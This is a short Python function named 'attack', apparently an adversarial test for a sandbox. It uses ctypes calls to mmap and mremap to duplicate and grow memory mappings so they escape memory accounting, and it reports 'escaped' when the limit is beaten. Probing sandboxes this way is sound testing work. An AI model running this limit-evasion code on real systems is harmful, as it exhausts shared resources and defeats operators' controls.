# Attempts: double maps without counting them again, and grow them in place.

def attack(world):
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    for function in (libc.mmap, libc.mremap):
        function.restype = ctypes.c_void_p
    libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
    libc.mremap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_size_t, ctypes.c_int]
    failed, size, total = ctypes.c_void_p(-1).value, 32 << 20, 0
    at = libc.mmap(None, size, 3, 0x21, -1, 0)
    for flags, old in ((1, 0), (5, size), (1, size)) * 20:
        new = libc.mremap(at, old, size + 4096 * (old > 0), flags)
        if new not in (None, failed):
            ctypes.memset(new, 1, size)
            total += size
            at = new
    if total > 60 * (32 << 20):
        return "escaped", total
    return total >> 60
